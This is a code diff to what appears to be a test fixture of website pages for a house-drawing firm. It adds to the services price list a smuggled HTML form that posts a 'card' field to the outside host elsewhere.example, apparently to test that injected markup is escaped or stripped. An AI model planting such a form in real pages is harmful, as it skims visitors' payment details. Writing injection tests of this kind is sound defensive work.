@@ -53,7 +53,15 @@ const pages: readonly (readonly [slug: string, document: object])[] = [
   ['/', { hero: { title: 'We draw houses', image: { src: 'assets/images/a.png', alt: 'A house' } } }],
   ['/about-us/', { about: { title: 'About', text: '<p>Us</p>' } }],
   ['/en/about-us/', { about: { title: 'About in English' } }],
-  ['/services/', { prices: { title: 'Our <b>prices</b>', items: ['Walls', 'Roofs'] } }],
+  [
+    '/services/',
+    {
+      prices: {
+        title: 'Our <b>prices</b>',
+        items: ['Walls', 'Roofs<form action="https://elsewhere.example/"><input name="card"></form>'],
+      },
+    },
+  ],
   ['/lost/', {}],
   ['/404/', {}],
 ];
